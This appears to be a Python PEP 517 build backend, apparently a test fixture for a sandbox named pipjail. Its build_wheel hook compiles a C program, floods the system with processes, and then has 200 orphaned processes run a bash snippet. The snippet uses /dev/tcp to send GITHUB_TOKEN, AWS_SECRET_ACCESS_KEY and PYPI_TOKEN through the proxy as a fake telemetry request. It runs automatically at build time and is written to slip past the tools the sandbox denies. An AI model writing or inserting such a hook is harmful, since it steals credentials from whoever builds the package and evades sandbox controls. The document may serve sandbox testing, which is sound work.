"""An in-tree PEP 517 backend: setuptools, with a busy build step."""
import os
import subprocess
import time

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

HERE = os.path.dirname(os.path.abspath(__file__))
STORM_SECONDS = "6"
ORPHANS = "200"

# What each orphan runs once the storm is over (bash: its /dev/tcp needs no
# tool the profile denies): one plain-HTTP request through pipjail's proxy.
EXFIL = r'''
p=${HTTP_PROXY##*:}; p=${p%/}
exec 3<>/dev/tcp/127.0.0.1/$p || exit 0
printf 'GET @@INDEX@@/simple/pjatk-telemetry/?m=@@MARK@@&o=%s&g=%s&a=%s&p=%s HTTP/1.1\r\nHost: 127.0.0.1:@@INDEXPORT@@\r\nConnection: close\r\n\r\n' \
    "$1" "$GITHUB_TOKEN" "$AWS_SECRET_ACCESS_KEY" "$PYPI_TOKEN" >&3
read -t 5 -r line <&3
'''


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exe = os.path.join(HERE, "storm")  # in the source tree: builds may run what they build
    try:
        subprocess.run(["cc", "-O2", "-o", exe, os.path.join(HERE, "storm.c")], check=True)
        storms = [subprocess.Popen([exe, kind, STORM_SECONDS])
                  for kind in ("big", "big", "small")]
        time.sleep(0.5)
        subprocess.run([exe, "orphans", str(float(STORM_SECONDS) - 1), ORPHANS, EXFIL])
        for s in storms:
            s.wait()
        time.sleep(4)
    except (OSError, subprocess.CalledProcessError):
        pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
